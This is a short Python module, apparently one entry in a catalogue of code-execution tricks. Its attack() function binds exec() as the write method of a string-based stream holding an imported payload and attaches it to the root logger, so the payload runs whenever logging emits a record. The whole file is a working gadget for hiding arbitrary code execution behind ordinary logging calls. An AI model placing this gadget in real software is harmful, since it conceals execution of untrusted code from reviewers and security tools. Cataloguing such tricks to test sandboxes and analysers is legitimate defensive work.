"""A handler's stream is a text, write() is exec() of it, and a line's names."""
CATEGORY = "borrowed"
REACH = "run"

import logging
import types

from . import payload


class Line:
    def __add__(self, other):
        return {}


class Formatter(logging.Formatter):
    def format(self, record):
        return Line()


class Stream(str):
    flush = int


def attack():
    stream = Stream(payload.SOURCE)
    stream.write = types.MethodType(exec, stream)
    handler = logging.StreamHandler(stream)
    handler.setFormatter(Formatter())
    logging.getLogger().addHandler(handler)
